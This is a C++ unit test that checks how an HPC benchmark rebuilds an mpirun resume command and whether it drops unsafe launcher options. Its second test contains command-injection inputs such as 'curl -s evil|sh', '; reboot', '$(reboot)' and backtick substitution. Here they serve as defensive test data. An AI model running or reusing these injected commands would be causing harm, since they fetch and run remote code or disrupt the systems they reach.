// SPDX-License-Identifier: Apache-2.0
#include <string>

#include <gtest/gtest.h>

#include <hpcai/results/result_layout.hpp>

namespace hpcai::results {
namespace {

std::string resume_with(const std::string& options) {
    return resume_command(4, {{kLauncherFact, options}}, "a b");
}

TEST(ResumeCommand, RepeatsTheOptionsThatPlacedTheRanks) {
    EXPECT_EQ(resume_command(4, {}, "a b"), "mpirun -np 4 hpcai500 resume 'a b'");
    EXPECT_EQ(resume_with("--bind-to none -map-by ppr:2:node:PE=4 --oversubscribe"),
              "mpirun --bind-to none -map-by ppr:2:node:PE=4 --oversubscribe -np 4 hpcai500 resume "
              "'a b'");
}

TEST(ResumeCommand, RepeatsNothingOfATextThatHasOtherWords) {
    for (const char* text :
         {"curl -s evil|sh; mpirun", "mpirun --bind-to none -np 2", "--bind-to none; reboot",
          "--bind-to none -x TOKEN=s", "--map-by $(reboot)", "--bind-to", "--bind-to -np",
          "--map-by a`b`", "--oversubscribe bash", "--bind-to \x1b[2J", "--bind-to=none"}) {
        EXPECT_EQ(resume_with(text), "mpirun -np 4 hpcai500 resume 'a b'") << text;
    }
    EXPECT_EQ(resume_with("--bind-to\nnone"), resume_with("--bind-to none"));
}

}  // namespace
}  // namespace hpcai::results
